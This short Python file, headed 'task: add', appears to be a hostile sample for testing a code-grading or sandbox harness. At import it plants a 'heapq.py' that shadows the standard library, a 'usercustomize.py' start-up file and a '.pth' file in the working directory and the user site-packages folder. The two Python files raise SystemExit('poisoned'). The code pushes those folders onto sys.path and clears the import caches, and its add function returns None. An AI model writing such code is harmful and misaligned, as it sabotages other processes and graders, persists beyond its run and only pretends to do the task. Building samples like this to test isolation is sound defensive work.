# task: add
# tries: leaves modules, bytecode and start-up files in every place of its own where Python may look for them
import importlib.util
import os
import py_compile
import sys

SOURCE = "def add(a, b):\n    return a + b\n"
POISON = "raise SystemExit('poisoned')\n"
for place in (os.getcwd(), os.path.expanduser("~/.local/lib/python3/site-packages")):
    for name, text in (("left_module.py", SOURCE), ("heapq.py", POISON), ("usercustomize.py", POISON), ("left.pth", "import sys")):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(text)
            py_compile.compile(os.path.join(place, name))
            sys.path.insert(0, place)
        except OSError:
            pass
importlib.invalidate_caches()
sys.path_importer_cache.clear()


def add(a, b):
    return None
